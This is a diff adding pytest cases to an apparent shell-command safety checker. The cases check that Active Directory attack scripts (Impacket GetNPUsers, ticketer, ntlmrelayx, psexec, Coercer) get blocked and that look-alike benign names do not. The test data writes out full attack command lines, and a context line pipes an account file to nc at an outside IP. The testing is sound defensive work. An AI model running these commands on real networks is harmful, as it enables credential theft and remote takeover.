@@ -314,3 +314,27 @@ def test_mapping_an_ordinary_share_with_a_password_is_not_remote_execution() -> 
 def test_an_account_file_piped_to_a_sink_on_this_machine_is_not_exfiltration() -> None:
     assert "block.shell.exfiltration" not in assess("cat /etc/group | nc localhost 9000").rules
     assert "block.shell.exfiltration" in assess("cat /etc/group | nc 203.0.113.5 9000").rules
+
+
+@pytest.mark.parametrize(("command", "rule"), [
+    ("python3 ./GetNPUsers.py corp.example/ -no-pass -usersfile u.lst", "block.shell.credential-dump"),
+    ("python ticketer.py -aesKey 00ff -domain-sid S-1-5-21-1-2-3 svc_x", "block.shell.credential-dump"),
+    ("python3 /opt/impacket/examples/ntlmrelayx.py -tf targets.lst -smb2support", "block.shell.credential-dump"),
+    ("python3 Coercer.py coerce -u u -p p -t 10.1.1.9 -l 10.1.1.4", "block.shell.credential-dump"),
+    ("python3 psexec.py -k -no-pass corp.example/operator@fs01", "block.shell.remote-access"),
+    ("impacket-addcomputer -computer-name WS99$ corp.example/u:p", "block.shell.remote-access"),
+    ("python3 samrdump.py corp.example/u:p@10.1.1.9", "confirm.shell.recon"),
+])
+def test_domain_attack_scripts_run_through_an_interpreter_are_known_by_name(command: str, rule: str) -> None:
+    got = assess(command)
+    assert rule in got.rules, got.rules
+    assert got.decision is (Decision.CONFIRM if rule.startswith("confirm.") else Decision.BLOCK)
+
+
+@pytest.mark.parametrize("command", [
+    "python3 ticket_report.py --since monday", "python3 getstats.py data.csv", "python3 rbcd_notes_to_html.py",
+    "python3 -m pytest tests/test_responder.py", "python manage.py addcomputers --dry-run",
+])
+def test_scripts_whose_names_only_resemble_attack_kits_are_not_flagged_as_them(command: str) -> None:
+    got = assess(command)
+    assert not any(r in got.rules for r in ("block.shell.credential-dump", "block.shell.remote-access")), got.rules
